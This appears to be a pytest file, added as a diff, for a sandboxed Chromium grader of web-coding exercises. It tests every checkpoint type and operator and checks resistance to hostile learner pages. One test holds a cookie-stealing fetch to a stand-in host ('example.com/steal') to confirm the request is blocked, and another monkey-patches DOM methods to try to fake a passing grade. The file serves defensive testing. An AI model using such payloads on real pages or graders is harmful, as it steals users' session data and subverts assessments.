@@ -1,0 +1,321 @@
+"""Grading in the real system Chromium: shipped exercises, every checkpoint type and operator, hostile pages."""
+
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+
+from app.exercises.repository import all_exercises
+from app.exercises.schemas import CodeFiles, Exercise
+from app.submissions.sandbox import GradeReport, SandboxPool
+from app.worker.retry import PermanentError
+
+EXERCISES = all_exercises()
+
+
+@pytest.fixture(scope="module")
+async def pool() -> AsyncIterator[SandboxPool]:
+    sandbox = SandboxPool(chromium_path="/usr/bin/chromium", max_concurrency=5, queue_timeout_s=30, timeout_s=5)
+    yield sandbox
+    await sandbox.close()
+
+
+async def _grade(pool: SandboxPool, exercise: Exercise, code: CodeFiles) -> tuple[GradeReport, list[Any]]:
+    progress: list[Any] = []
+    report = await pool.grade(exercise, code, lambda *step: progress.append(step))
+    return report, progress
+
+
+@pytest.mark.parametrize("exercise_id", sorted(EXERCISES))
+async def test_reference_answer_passes_and_start_code_fails(pool: SandboxPool, exercise_id: str) -> None:
+    exercise = EXERCISES[exercise_id]
+    answer, progress = await _grade(pool, exercise, exercise.answer)
+    assert answer.passed, [c for c in answer.checkpoints if not c["passed"]]
+    assert progress[0][0] == "preparing"
+    fractions = [step[2] for step in progress[1:]]
+    assert fractions == sorted(fractions) and fractions[-1] == 1.0 and len(fractions) == len(exercise.checkpoints)
+    start, _ = await _grade(pool, exercise, exercise.start_code)
+    assert not start.passed, "the start code must not already pass"
+
+
+PAGE = CodeFiles(
+    html="""<h1 id="title" class="big hero" data-n="42">Hello   World</h1>
+<ul><li>one</li><li>two</li><li>three</li></ul>
+<a href="https://example.org/docs">docs</a>
+<button id="b">Go</button><input id="i"><div id="box">box</div><p id="out"></p>""",
+    css="#title { color: #f00; margin-top: 2em; } #box { width: 120px; }",
+    js="""document.querySelector('#b').addEventListener('click', () => { document.querySelector('#out').textContent = 'clicked'; });
+document.querySelector('#i').addEventListener('input', (e) => { document.querySelector('#out').textContent = e.target.value; });
+document.querySelector('#i').addEventListener('focus', () => { document.querySelector('#out').textContent = 'focused'; });
+document.querySelector('#box').addEventListener('mouseenter', () => { document.querySelector('#out').textContent = 'hovered'; });""",
+)
+
+# (checkpoint without name/feedback, passes on PAGE?)
+CASES: list[tuple[dict[str, Any], bool]] = [
+    ({"type": "assert_element", "selector": "li"}, True),
+    ({"type": "assert_element", "selector": "table"}, False),
+    ({"type": "assert_element", "selector": "li", "operator": "equals", "value": 3}, True),
+    ({"type": "assert_element", "selector": "li", "operator": "equals", "value": 2}, False),
+    ({"type": "assert_element", "selector": "li", "operator": "greater_than", "value": 2}, True),
+    ({"type": "assert_element", "selector": "li", "operator": "greater_than", "value": 3}, False),
+    ({"type": "assert_element", "selector": "li", "operator": "less_than", "value": 4}, True),
+    ({"type": "assert_element", "selector": "li", "operator": "less_than", "value": 3}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "equals", "value": "Hello World"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "equals", "value": "Hello"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "not_equals", "value": "Bye"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "not_equals", "value": "Hello World"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "contains", "value": "lo Wo"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "contains", "value": "xyz"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "not_contains", "value": "xyz"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "not_contains", "value": "World"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "starts_with", "value": "Hello"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "starts_with", "value": "World"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "ends_with", "value": "World"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "ends_with", "value": "Hello"}, False),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "regex", "value": "^H\\w+ W"}, True),
+    ({"type": "assert_text_content", "selector": "#title", "operator": "regex", "value": "^\\d+$"}, False),
+    ({"type": "assert_text_content", "selector": "#missing", "operator": "not_contains", "value": "x"}, False),
+    ({"type": "assert_attribute", "selector": "#title", "attribute": "data-n"}, True),
+    ({"type": "assert_attribute", "selector": "#title", "attribute": "data-missing"}, False),
+    (
+        {
+            "type": "assert_attribute",
+            "selector": "#title",
+            "attribute": "data-n",
+            "operator": "greater_than",
+            "value": 41,
+        },
+        True,
+    ),
+    (
+        {"type": "assert_attribute", "selector": "#title", "attribute": "data-n", "operator": "less_than", "value": 41},
+        False,
+    ),
+    (
+        {
+            "type": "assert_attribute",
+            "selector": "a",
+            "attribute": "href",
+            "operator": "starts_with",
+            "value": "https://",
+        },
+        True,
+    ),
+    (
+        {
+            "type": "assert_attribute",
+            "selector": "#title",
+            "attribute": "class",
+            "operator": "contains",
+            "value": "hero",
+        },
+        True,
+    ),
+    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "red"}, True),
+    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "#f00"}, True),
+    (
+        {
+            "type": "assert_style",
+            "selector": "#title",
+            "property": "color",
+            "operator": "equals",
+            "value": "rgb(255, 0, 0)",
+        },
+        True,
+    ),
+    ({"type": "assert_style", "selector": "#title", "property": "color", "operator": "equals", "value": "blue"}, False),
+    (
+        {"type": "assert_style", "selector": "#title", "property": "color", "operator": "not_equals", "value": "blue"},
+        True,
+    ),
+    # h1's font size is 2em of 16px: its 2em margin is 64px, and "2em" is normalised in the same context.
+    (
+        {"type": "assert_style", "selector": "#title", "property": "margin-top", "operator": "equals", "value": "2em"},
+        True,
+    ),
+    (
+        {"type": "assert_style", "selector": "#title", "property": "margin-top", "operator": "equals", "value": "64px"},
+        True,
+    ),
+    (
+        {"type": "assert_style", "selector": "#box", "property": "width", "operator": "greater_than", "value": "100px"},
+        True,
+    ),
+    (
+        {"type": "assert_style", "selector": "#box", "property": "width", "operator": "less_than", "value": "100px"},
+        False,
+    ),
+    ({"type": "custom_script", "script": "return document.querySelectorAll('li').length * 2;", "value": 6}, True),
+    ({"type": "custom_script", "script": "return document.title === 'nope';"}, False),
+    ({"type": "custom_script", "script": "throw new Error('author bug');"}, False),
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "click", "selector": "#b"}],
+            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "clicked"},
+        },
+        True,
+    ),
+    # Checkpoints share one page in order: focus first, before typing focuses the field.
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "focus", "selector": "#i"}],
+            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "focused"},
+        },
+        True,
+    ),
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "type_text", "selector": "#i", "text": "héllo"}],
+            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "héllo"},
+        },
+        True,
+    ),
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "hover", "selector": "#box"}],
+            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "hovered"},
+        },
+        True,
+    ),
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "click", "selector": "#nothing-here"}],
+            "then": {"type": "assert_element", "selector": "body"},
+        },
+        False,
+    ),
+    (
+        {
+            "type": "interaction_and_assert",
+            "actions": [{"action": "click", "selector": "#b"}],
+            "then": {"type": "assert_text_content", "selector": "#out", "operator": "equals", "value": "hovered"},
+        },
+        False,
+    ),
+]
+
+
+def _exercise(checkpoints: list[dict[str, Any]]) -> Exercise:
+    named = [{"name": f"check {i}", "feedback": "hint", **c} for i, c in enumerate(checkpoints)]
+    return Exercise.model_validate(
+        {
+            "id": "synthetic",
+            "title": "t",
+            "topic": "html",
+            "description_md": "d",
+            "start_code": {},
+            "answer": {},
+            "checkpoints": named,
+        }
+    )
+
+
+async def test_every_checkpoint_type_and_operator_passes_and_fails_where_it_should(pool: SandboxPool) -> None:
+    report, _ = await _grade(pool, _exercise([case for case, _ in CASES]), PAGE)
+    outcomes = [c["passed"] for c in report.checkpoints]
+    wrong = [(CASES[i][0], outcome) for i, outcome in enumerate(outcomes) if outcome != CASES[i][1]]
+    assert not wrong, wrong
+    covered = {c["type"] for c, _ in CASES} | {c.get("then", {}).get("type") for c, _ in CASES} - {None}
+    operators = {c.get("operator", "exists") for c, _ in CASES} | {c.get("then", {}).get("operator") for c, _ in CASES}
+    assert (
+        len(covered) == 6
+        and {
+            "exists",
+            "equals",
+            "not_equals",
+            "contains",
+            "not_contains",
+            "starts_with",
+            "ends_with",
+            "greater_than",
+            "less_than",
+            "regex",
+        }
+        <= operators
+    )
+
+
+HEADING_EXERCISE = _exercise(
+    [{"type": "assert_text_content", "selector": "h1", "operator": "equals", "value": "My First Page"}]
+)
+
+
+async def test_learner_code_cannot_fake_a_pass(pool: SandboxPool) -> None:
+    cheat = CodeFiles(
+        html="<h1>Something else</h1>",
+        js="""document.querySelector = () => ({ textContent: 'My First Page' });
+document.querySelectorAll = () => [{ textContent: 'My First Page' }];
+Object.defineProperty(Node.prototype, 'textContent', { get() { return 'My First Page'; } });
+Object.prototype.textContent = 'My First Page';
+String.prototype.trim = function () { return 'My First Page'; };
+window.getComputedStyle = () => ({ getPropertyValue: () => 'rgb(255, 0, 0)' });""",
+    )
+    report, _ = await _grade(pool, HEADING_EXERCISE, cheat)
+    assert not report.passed
+
+
+async def test_an_infinite_loop_ends_with_timeout_and_the_pool_still_grades(pool: SandboxPool) -> None:
+    with pytest.raises(PermanentError) as failure:
+        await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>", js="while (true) {}"))
+    assert failure.value.code == "timeout"
+    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
+    assert report.passed
+
+
+async def test_thousands_of_alerts_are_dismissed_and_recorded(pool: SandboxPool) -> None:
+    code = CodeFiles(
+        html="<h1>My First Page</h1>", js="for (let i = 0; i < 10000; i++) alert('hi ' + i); confirm('sure?');"
+    )
+    report, _ = await _grade(pool, HEADING_EXERCISE, code)
+    assert report.passed
+    assert report.details["dialogs"] == 10001 and report.details["dialog_samples"][0] == "alert: hi 0"
+
+
+async def test_network_requests_are_blocked_and_recorded(pool: SandboxPool) -> None:
+    code = CodeFiles(
+        html='<h1>My First Page</h1><img src="http://example.com/pixel.png"><link rel="stylesheet" href="https://cdn.example.net/x.css">',
+        js="""fetch('http://example.com/steal?d=' + document.cookie).then(() => document.title = 'sent', () => document.title = 'blocked');
+new WebSocket('ws://example.com/socket');""",
+    )
+    report, _ = await _grade(pool, HEADING_EXERCISE, code)
+    assert report.passed
+    blocked = report.details["blocked_requests"]
+    assert any(url.startswith("http://example.com/steal") for url in blocked)
+    assert any(url == "http://example.com/pixel.png" for url in blocked)
+    assert any(url.startswith("https://cdn.example.net/") for url in blocked)
+
+
+async def test_a_five_megabyte_dom_is_graded(pool: SandboxPool) -> None:
+    code = CodeFiles(
+        html="<h1>My First Page</h1><div id='big'></div>",
+        js="document.getElementById('big').innerHTML = '<p>' + 'x'.repeat(100) + '</p>'.repeat(1) + ('<span>' + 'y'.repeat(90) + '</span>').repeat(50000);",
+    )
+    report, _ = await _grade(pool, HEADING_EXERCISE, code)
+    assert report.passed
+
+
+async def test_a_missing_browser_is_a_clear_error() -> None:
+    sandbox = SandboxPool(chromium_path="/nonexistent/chromium", max_concurrency=1, queue_timeout_s=1, timeout_s=5)
+    try:
+        with pytest.raises(PermanentError) as failure:
+            await _grade(sandbox, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
+        assert failure.value.code == "sandbox_unavailable"
+        assert sandbox.active == 0, "the slot is given back"
+    finally:
+        await sandbox.close()
+
+
+async def test_a_crashed_browser_is_replaced(pool: SandboxPool) -> None:
+    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
+    assert report.passed
+    launches = pool.launches
+    browser = pool._browser  # white-box: simulate the browser process dying under the pool
+    assert browser is not None
+    await browser.close()
+    report, _ = await _grade(pool, HEADING_EXERCISE, CodeFiles(html="<h1>My First Page</h1>"))
+    assert report.passed and pool.launches == launches + 1
